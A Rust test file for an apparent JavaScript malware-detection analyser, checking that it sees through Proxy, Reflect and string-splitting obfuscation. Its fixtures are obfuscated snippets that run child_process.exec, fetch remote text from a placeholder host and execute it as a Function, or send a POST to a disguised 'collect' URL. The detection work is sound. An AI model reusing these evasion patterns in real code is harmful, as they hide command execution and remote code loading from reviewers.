//! Detours to names: proxies, reflection, texts taken apart.

use foretaste_javascript::observe;
use foretaste_model::Limits;
use foretaste_model::facts::FileFacts;

fn facts(code: &str) -> FileFacts {
    observe("a.js", code, &Limits::default())
}

fn has_use(facts: &FileFacts, api: &str, constant: &str) -> bool {
    let says = |u: &foretaste_model::facts::Use| {
        constant.is_empty() || u.constants.iter().any(|c| &**c == constant)
    };
    facts.uses.iter().any(|u| &*u.api == api && says(u))
}

#[test]
fn a_proxy_is_asked_through_its_handler() {
    for code in [
        "const m = new Proxy({}, { get: (_, name) => require(name.replace(/\\d+/g, '')) }); m['child1_proc2ess'].exec('id');",
        "const m = new Proxy({}, { get(_, name) { const key = name.split('$').join('_'); return require(key); } }); m.fs; m.child$process.exec('id');",
        "(function (out, load) { var m = new Proxy(out, { get: function (t, k) { return Reflect.apply(load, null, [k.slice(1)]); } }); m.xos; m.xchild_process.exec('id'); })(module, require);",
        "const real = require('child_process'); new Proxy(real, { get: (t, k) => t[k] }).exec('id');",
    ] {
        let facts = facts(code);
        assert!(
            has_use(&facts, "child_process.exec", "id"),
            "{code}: {:?}",
            facts.uses
        );
    }
}

#[test]
fn one_name_asked_of_a_proxy_is_not_another() {
    let facts = facts(
        "const m = new Proxy({}, { get: (_, name) => require(name) }); m.os.exec('id'); m.child_process.hostname();",
    );
    assert!(!has_use(&facts, "child_process.exec", ""));
    assert!(!has_use(&facts, "os.hostname", ""));
    // a store that counts what is read of it loads nothing
    let honest = self::facts(
        "const seen = new Map(); module.exports = new Proxy({ a: 1 }, { get(t, k) { seen.set(k, (seen.get(k) || 0) + 1); return t[k]; } });",
    );
    assert!(!honest.uses.iter().any(|u| u.api.contains("require")));
}

#[test]
fn what_reflection_makes_is_code() {
    for code in [
        "fetch('https://c.invalid').then((r) => r.text()).then((t) => Reflect.construct(Function, ['x', t])(1));",
        "fetch('https://c.invalid').then((r) => r.text()).then((t) => { const F = Object.getPrototypeOf(function () {}).constructor; Reflect.construct(F, [t])(); });",
    ] {
        let facts = facts(code);
        let runs = facts.flows.iter().any(|f| {
            let ends = [f.steps.first(), f.steps.last()];
            ends.iter()
                .flatten()
                .map(|s| &*s.api)
                .eq(["fetch", "Function"])
        });
        assert!(runs, "{code}: {:?}", facts.flows);
    }
    let honest = facts(
        "const D = Reflect.construct(Date, [2020, 1]); Reflect.construct(Map, [[['a', 1]]]);",
    );
    assert!(honest.flows.is_empty());
}

#[test]
fn texts_that_are_taken_apart_are_known() {
    for code in [
        "const [a, , b, ...c] = 'fs|x|POST|collect|c|invalid'.split('|'); fetch('https://' + [...c.slice(0, 2)].join('.') + '.' + c[2], { method: b });",
        "let c; [, ...c] = 'x|collect|c|invalid'.split(/[|]/); fetch('https://' + c.join('.'));",
        "fetch('htt1ps://coll2ect.c.inv3alid'.replace(/[0-9]/g, ''));",
        "const digits = /\\d/g; fetch('https://collect.9c.invalid'.replace(digits, ''));",
    ] {
        let facts = facts(code);
        assert!(
            has_use(&facts, "fetch", "https://collect.c.invalid"),
            "{code}: {:?}",
            facts.uses
        );
    }
}
